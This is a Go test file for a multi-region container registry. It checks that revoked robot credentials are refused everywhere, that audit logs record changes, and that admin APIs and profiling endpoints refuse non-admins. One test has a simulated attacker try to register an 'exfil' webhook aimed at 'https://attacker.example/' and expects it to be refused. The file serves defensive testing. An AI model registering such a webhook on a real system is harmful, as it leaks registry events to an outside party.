package node_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/v1/remote"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/status"

	"github.com/meridian-registry/meridian/node/clustertest"
	"github.com/meridian-registry/meridian/node/clustertest/admin"

	pb "github.com/meridian-registry/meridian/proto/meridianpb"
)

// A robot revoked through one node is refused by every node and gateway of
// a three-region cluster within a second: its Basic credentials and the
// token it got before the revocation alike. Its pushes stop being
// acknowledged; nothing else is lost.
func TestRevocationAcrossRegions(t *testing.T) {
	g := newDirGeo(t, 3)
	c := g.c
	ctx := within(t, 3*time.Minute)
	gwA := startGateway(t, g, "gw-east", "us-east", nil, nil)
	gwB := startGateway(t, g, "gw-west", "eu-west", nil, nil)
	g.waitTopology(t, ctx)

	a := &accessSetup{t: t, ctx: ctx, admin: adminClient(t, c, 0)}
	secret := a.robot("deployer", 0, &pb.Scope{Prefix: "rev", Actions: []string{"pull", "push"}})
	robot := basicAuth("robot+deployer", secret)()

	endpoints := map[string]string{"gw-east": "http://" + gwA.HTTPAddr(), "gw-west": "http://" + gwB.HTTPAddr()}
	for i := 0; i < 3; i++ {
		endpoints[fmt.Sprintf("node-%d", i)] = c.URL(i)
	}
	// Everyone knows the robot, and it can push everywhere.
	for name, base := range endpoints {
		waitFor(t, ctx, name+" knows the robot", func() bool {
			return httpStatus(t, base, "POST", "/v2/rev/app/blobs/uploads/", robot, nil) == http.StatusAccepted
		})
	}
	st, _ := pb.NewGatewayClient(adminConn(t, c, 0)).GetAccessState(ctx, &pb.GetAccessStateRequest{})
	tokens := map[string]string{}
	for name, base := range endpoints {
		tokens[name] = registryToken(t, base, st.State.ClusterId, "robot+deployer", secret, "repository:rev/app:pull,push")
	}
	// A stream of pushes as the robot while it is revoked.
	var mu sync.Mutex
	var acked, refused int
	var lastAckStarted time.Time // when the last acknowledged push was sent
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for k := 0; ; k++ {
			select {
			case <-stop:
				return
			default:
			}
			body := fmt.Appendf(nil, "push %d", k)
			sent := time.Now()
			// A monolithic upload: one POST with the digest.
			s := httpStatusAt(endpoints["gw-west"], "POST", "/v2/rev/app/blobs/uploads/?digest="+digestOf(body), robot, body)
			time.Sleep(2 * time.Millisecond)
			mu.Lock()
			if s == http.StatusCreated {
				acked++
				lastAckStarted = sent
			} else {
				refused++
			}
			mu.Unlock()
		}
	}()
	time.Sleep(300 * time.Millisecond)

	// Revoke through node 2, in the third region.
	revoker := adminClient(t, c, 2)
	if _, err := revoker.ManageAccess(ctx, &pb.ManageAccessRequest{Op: &pb.ManageAccessRequest_RevokeRobot{RevokeRobot: "deployer"}}); err != nil {
		t.Fatal(err)
	}
	revoked := time.Now()
	refusedAt := map[string]time.Duration{}
	for len(refusedAt) < 2*len(endpoints) && time.Since(revoked) < 10*time.Second {
		for name, base := range endpoints {
			// 401, or 429 once the refused logins pass the limit.
			if _, ok := refusedAt[name+" basic"]; !ok {
				if s := httpStatus(t, base, "GET", "/v2/rev/app/tags/list", robot, nil); s == http.StatusUnauthorized || s == http.StatusTooManyRequests {
					refusedAt[name+" basic"] = time.Since(revoked)
				}
			}
			if _, ok := refusedAt[name+" token"]; !ok && httpStatus(t, base, "GET", "/v2/rev/app/tags/list", "Bearer "+tokens[name], nil) == http.StatusUnauthorized {
				refusedAt[name+" token"] = time.Since(revoked)
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
	close(stop)
	<-done
	t.Logf("refused after the revocation: %v", refusedAt)
	for name := range endpoints {
		for _, how := range []string{" basic", " token"} {
			d, ok := refusedAt[name+how]
			if !ok || d > time.Second {
				t.Errorf("%s%s: still accepted %v after the revocation (want within 1s)", name, how, d)
			}
		}
	}
	mu.Lock()
	t.Logf("robot pushes through gw-west: %d acknowledged, %d refused; the last acknowledged was sent %v before the revocation returned",
		acked, refused, revoked.Sub(lastAckStarted))
	if acked == 0 || refused == 0 {
		t.Errorf("want pushes acknowledged before and refused after the revocation: %d acknowledged, %d refused", acked, refused)
	}
	// The leader judges every write from the state it commits: none sent
	// after the revocation returned is acknowledged, even while the
	// gateway still has the old state.
	if lastAckStarted.After(revoked) {
		t.Errorf("a push sent %v after the revocation returned was acknowledged", lastAckStarted.Sub(revoked))
	}
	mu.Unlock()

	// Nothing else lost: the admin's image pushed before is intact
	// everywhere.
	img := randomImage(t, 8<<10, 1)
	if err := remote.Write(ref(t, c, 0, "rev/kept:v1"), img, remoteOpts(ctx, c)...); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		if err := pullAndCompare(ctx, c, i, "rev/kept:v1", img); err != nil {
			t.Errorf("node %d: %v", i, err)
		}
	}
}

// httpStatusAt is httpStatus without a test (for goroutines).
func httpStatusAt(base, method, path, auth string, body []byte) int {
	req, err := http.NewRequest(method, base+path, strings.NewReader(string(body)))
	if err != nil {
		return 0
	}
	if auth != "" {
		req.Header.Set("Authorization", auth)
	}
	req.Header.Set("Content-Type", "application/octet-stream")
	resp, err := rawClient.Do(req)
	if err != nil {
		return 0
	}
	resp.Body.Close()
	return resp.StatusCode
}

// Every change carries who made it, from where and through which member,
// in its own log entry: the audit log read from a node in another region
// names the pushes, the delete and the permission changes, and the node
// that refused a request lists it with --denied.
func TestAuditLogAcrossRegions(t *testing.T) {
	g := newDirGeo(t, 3)
	c := g.c
	ctx := within(t, 3*time.Minute)
	gw := startGateway(t, g, "gw-audit", "us-east", nil, nil)
	g.waitTopology(t, ctx)
	start := time.Now()

	a := &accessSetup{t: t, ctx: ctx, admin: adminClient(t, c, 0)}
	a.user("auditor", matrixPassword)
	a.grant("user:auditor", "aud", "pull", "push", "delete")
	as := basicAuth("auditor", matrixPassword)()
	waitFor(t, ctx, "the gateway knows the auditor", func() bool {
		return httpStatus(t, "http://"+gw.HTTPAddr(), "GET", "/v2/", as, nil) == http.StatusOK
	})
	// A push through the gateway and a delete through node 1.
	body := []byte("audited blob")
	if s := httpStatus(t, "http://"+gw.HTTPAddr(), "POST", "/v2/aud/app/blobs/uploads/?digest="+digestOf(body), as, body); s != http.StatusCreated {
		t.Fatalf("push: %d", s)
	}
	waitFor(t, ctx, "node 1 sees the blob", func() bool {
		return httpStatus(t, c.URL(1), "HEAD", "/v2/aud/app/blobs/"+digestOf(body), as, nil) == http.StatusOK
	})
	if s := httpStatus(t, c.URL(1), "DELETE", "/v2/aud/app/blobs/"+digestOf(body), as, nil); s != http.StatusAccepted {
		t.Fatalf("delete: %d", s)
	}
	// A refusal on node 1.
	if s := httpStatus(t, c.URL(1), "GET", "/v2/secret/app/tags/list", as, nil); s != http.StatusForbidden {
		t.Fatalf("refusal: %d", s)
	}
	a.manage(&pb.ManageAccessRequest{Op: &pb.ManageAccessRequest_Revoke{Revoke: &pb.DeleteGrant{Subject: "user:auditor", Prefix: "aud"}}})

	// Read back from node 2, in the third region.
	reader := adminClient(t, c, 2)
	var recs []*pb.AuditRecord
	waitFor(t, ctx, "node 2 has the revocation in its audit log", func() bool {
		resp, err := reader.ReadAudit(ctx, &pb.ReadAuditRequest{SinceUnixNano: start.UnixNano()})
		if err != nil {
			t.Fatal(err)
		}
		recs = resp.Records
		return len(recs) > 0 && recs[len(recs)-1].Action == "delete_grant"
	})
	find := func(action, principal, via string) *pb.AuditRecord {
		for _, r := range recs {
			if r.Action == action && r.GetActor().GetPrincipal() == principal && (via == "" || r.GetActor().GetVia() == via) {
				return r
			}
		}
		t.Errorf("no %s by %s via %q in the audit log read from node 2:\n%v", action, principal, via, recs)
		return nil
	}
	if r := find("link_blob", "user:auditor", "gw-audit"); r != nil {
		if r.Repository != "aud/app" || !strings.Contains(r.Detail, digestOf(body)) || !strings.HasPrefix(r.GetActor().GetAddress(), "127.0.0.1:") || r.Index == 0 {
			t.Errorf("push record: %v", r)
		}
	}
	if r := find("unlink_blob", "user:auditor", "node-1"); r != nil && r.Repository != "aud/app" {
		t.Errorf("delete record: %v", r)
	}
	find("put_user", "user:admin", "node-0")
	find("put_grant", "user:admin", "node-0")
	find("delete_grant", "user:admin", "node-0")
	// Filters.
	resp, err := reader.ReadAudit(ctx, &pb.ReadAuditRequest{SinceUnixNano: start.UnixNano(), Principal: "auditor"})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range resp.Records {
		if r.GetActor().GetPrincipal() != "user:auditor" {
			t.Errorf("principal filter let through %v", r)
		}
	}
	if len(resp.Records) != 2 {
		t.Errorf("auditor made 2 changes, the filter found %d", len(resp.Records))
	}
	// The refusal stays with the node that refused it.
	denied, err := adminClient(t, c, 1).ReadAudit(ctx, &pb.ReadAuditRequest{SinceUnixNano: start.UnixNano(), Denied: true, Repository: "secret/app"})
	if err != nil {
		t.Fatal(err)
	}
	if len(denied.Records) != 1 || denied.Records[0].Action != "denied" || denied.Records[0].GetActor().GetPrincipal() != "user:auditor" {
		t.Errorf("node 1's denied log: %v", denied.Records)
	}

	// The admin HTTP endpoint of node 2 gives the same records, to admins
	// only.
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, c.URL(2)+"/admin/audit?user=auditor", nil)
	req.SetBasicAuth(admin.AdminUser, admin.AdminPassword)
	resp2, err := rawClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body2, _ := io.ReadAll(resp2.Body)
	resp2.Body.Close()
	if lines := strings.Split(strings.TrimSpace(string(body2)), "\n"); resp2.StatusCode != http.StatusOK || len(lines) != 2 ||
		!strings.Contains(lines[0], `"principal":"user:auditor"`) {
		t.Errorf("GET /admin/audit as admin: %s\n%s", resp2.Status, body2)
	}
	if s := httpStatus(t, c.URL(2), "GET", "/admin/audit", as, nil); s != http.StatusForbidden {
		t.Errorf("GET /admin/audit as a non-admin: %d, want 403", s)
	}
	if s := httpStatus(t, c.URL(2), "GET", "/admin/audit", "", nil); s != http.StatusUnauthorized {
		t.Errorf("GET /admin/audit without credentials: %d, want 401", s)
	}

	// Runtime profiles, on a node and on a gateway: admins only.
	for name, base := range map[string]string{"node 2": c.URL(2), "the gateway": "http://" + gw.HTTPAddr()} {
		for _, path := range []string{"/debug/pprof/", "/debug/pprof/heap", "/debug/pprof/profile?seconds=1"} {
			if s := httpStatus(t, base, "GET", path, "", nil); s != http.StatusUnauthorized {
				t.Errorf("GET %s on %s without credentials: %d, want 401", path, name, s)
			}
			if s := httpStatus(t, base, "GET", path, as, nil); s != http.StatusForbidden {
				t.Errorf("GET %s on %s as a non-admin: %d, want 403", path, name, s)
			}
		}
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, base+"/debug/pprof/profile?seconds=1", nil)
		req.SetBasicAuth(admin.AdminUser, admin.AdminPassword)
		resp, err := rawClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		prof, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		// A CPU profile is gzip-compressed protobuf.
		if resp.StatusCode != http.StatusOK || len(prof) < 2 || prof[0] != 0x1f || prof[1] != 0x8b {
			t.Errorf("GET a CPU profile from %s as admin: %s, %d bytes starting %q", name, resp.Status, len(prof), prof[:min(len(prof), 16)])
		}
	}
}

// The admin API, on a node without cluster TLS, as an attacker on the
// same host would call it: without credentials, with a user's, and with
// an admin's of one prefix only, every admin method is refused; and no
// change may leave the cluster without an admin.
func TestAdminAPIRefusesNonAdmins(t *testing.T) {
	c := clustertest.New(t, 1)
	ctx := within(t, time.Minute)
	a := &accessSetup{t: t, ctx: ctx, admin: adminClient(t, c, 0)}
	a.user("mallory", matrixPassword)
	a.grant("user:mallory", "team", "pull", "push", "delete", "admin") // admin of one prefix
	dial := func(creds credentials.PerRPCCredentials) *grpc.ClientConn {
		opts := []grpc.DialOption{grpc.WithTransportCredentials(insecure.NewCredentials())}
		if creds != nil {
			opts = append(opts, grpc.WithPerRPCCredentials(creds))
		}
		conn, err := grpc.NewClient(c.Config(0).GRPCAddr, opts...)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { conn.Close() })
		return conn
	}
	grant := &pb.ManageAccessRequest{Op: &pb.ManageAccessRequest_Grant{Grant: &pb.Grant{Subject: "user:mallory", Prefix: "", Actions: []string{"admin"}}}}
	for name, cl := range map[string]struct {
		conn *grpc.ClientConn
		code codes.Code
	}{
		"no credentials":        {dial(nil), codes.Unauthenticated},
		"a wrong password":      {dial(basicGRPC("admin", "not-the-password")), codes.Unauthenticated},
		"an admin of a prefix":  {dial(basicGRPC("mallory", matrixPassword)), codes.PermissionDenied},
		"a robot's credentials": {dial(basicGRPC("robot+none", "x")), codes.Unauthenticated},
	} {
		adm, gw := pb.NewAdminClient(cl.conn), pb.NewGatewayClient(cl.conn)
		calls := map[string]func() error{
			"ManageAccess":   func() error { _, err := adm.ManageAccess(ctx, grant); return err },
			"ListAccess":     func() error { _, err := adm.ListAccess(ctx, &pb.ListAccessRequest{}); return err },
			"ReadAudit":      func() error { _, err := adm.ReadAudit(ctx, &pb.ReadAuditRequest{}); return err },
			"GetAccessState": func() error { _, err := gw.GetAccessState(ctx, &pb.GetAccessStateRequest{}); return err },
			"SetPolicy": func() error {
				_, err := adm.SetPolicy(ctx, &pb.SetPolicyRequest{Policy: &pb.Policy{Prefix: "x/"}})
				return err
			},
			"RunGC":    func() error { _, err := adm.RunGC(ctx, &pb.RunGCRequest{DryRun: true}); return err },
			"GCStatus": func() error { _, err := adm.GCStatus(ctx, &pb.GCStatusRequest{}); return err },
			"ManageLifecycle": func() error {
				_, err := adm.ManageLifecycle(ctx, &pb.ManageLifecycleRequest{Change: &pb.ManageLifecycleRequest_DeleteRepository{
					DeleteRepository: &pb.DeleteRepository{Repository: "team/app"}}})
				return err
			},
			"ListLifecycle": func() error { _, err := adm.ListLifecycle(ctx, &pb.ListLifecycleRequest{}); return err },
			"RunRetention":  func() error { _, err := adm.RunRetention(ctx, &pb.RunRetentionRequest{}); return err },
			"ManageWebhook": func() error {
				_, err := adm.ManageWebhook(ctx, &pb.ManageWebhookRequest{Change: &pb.ManageWebhookRequest_Put{Put: &pb.PutWebhook{Webhook: &pb.Webhook{
					Name: "exfil", Url: "https://attacker.example/", Secret: "0123456789abcdef0123"}}}})
				return err
			},
			"ListWebhooks": func() error { _, err := adm.ListWebhooks(ctx, &pb.ListWebhooksRequest{}); return err },
			"TestWebhook":  func() error { _, err := adm.TestWebhook(ctx, &pb.TestWebhookRequest{Name: "x"}); return err },
			"Backup": func() error {
				st, err := adm.Backup(ctx, &pb.BackupRequest{})
				if err != nil {
					return err
				}
				_, err = st.Recv()
				return err
			},
			"Commit of a repository delete": func() error {
				_, err := gw.Commit(ctx, &pb.CommitRequest{Command: &pb.Command{Intent: &pb.Command_DeleteRepository{
					DeleteRepository: &pb.DeleteRepository{Repository: "team/app"}}}})
				return err
			},
			"Commit of a grant": func() error {
				resp, err := gw.Commit(ctx, &pb.CommitRequest{Command: &pb.Command{Intent: &pb.Command_PutGrant{PutGrant: &pb.PutGrant{Grant: grant.GetGrant()}}}})
				if err == nil && pb.CodeOf(resp.Result.Err()) == pb.Code_CODE_INVALID_ARGUMENT {
					return status.Error(codes.InvalidArgument, resp.Result.Detail)
				}
				return err
			},
		}
		lifecycle := []string{"RunGC", "GCStatus", "ManageLifecycle", "ListLifecycle", "RunRetention", "Backup", "Commit of a repository delete",
			"ManageWebhook", "ListWebhooks", "TestWebhook"}
		for method, call := range calls {
			if slices.Contains(lifecycle, method) && (name == "a wrong password" || name == "a robot's credentials") {
				// Bad passwords count against the address's failed-login
				// limit; the same interceptor checks every admin method.
				continue
			}
			err := call()
			want := cl.code
			switch method {
			case "Commit of a grant":
				want = codes.InvalidArgument // access changes never go through Commit
			case "Commit of a repository delete":
				want = codes.PermissionDenied // only repository writes go through Commit
			}
			if status.Code(err) != want {
				t.Errorf("%s with %s: %v, want %v", method, name, err, want)
			}
		}
	}
	st, err := a.admin.ListAccess(ctx, &pb.ListAccessRequest{})
	if err != nil {
		t.Fatalf("ListAccess as the admin: %v", err)
	}
	for _, g := range st.Grants {
		if g.Subject == "user:mallory" && g.Prefix == "" {
			t.Errorf("mallory got %v", g)
		}
	}
	// The last admin stays.
	for name, req := range map[string]*pb.ManageAccessRequest{
		"delete the admin":       {Op: &pb.ManageAccessRequest_DeleteUser{DeleteUser: "admin"}},
		"revoke its admin grant": {Op: &pb.ManageAccessRequest_Revoke{Revoke: &pb.DeleteGrant{Subject: "user:admin", Prefix: ""}}},
	} {
		if _, err := a.admin.ManageAccess(ctx, req); status.Code(err) == codes.OK || !strings.Contains(status.Convert(err).Message(), "without an admin") {
			t.Errorf("%s: %v, want a refusal", name, err)
		}
	}
	// With a second admin, the first can go.
	a.user("second", matrixPassword)
	a.grant("user:second", "", "pull", "push", "delete", "admin")
	a.manage(&pb.ManageAccessRequest{Op: &pb.ManageAccessRequest_Revoke{Revoke: &pb.DeleteGrant{Subject: "user:admin", Prefix: ""}}})
}

// basicGRPC sends Basic credentials with each call.
type basicGRPCCreds struct{ header string }

func basicGRPC(user, pass string) credentials.PerRPCCredentials {
	return basicGRPCCreds{basicAuth(user, pass)()}
}

func (b basicGRPCCreds) GetRequestMetadata(context.Context, ...string) (map[string]string, error) {
	return map[string]string{"authorization": b.header}, nil
}

func (basicGRPCCreds) RequireTransportSecurity() bool { return false }
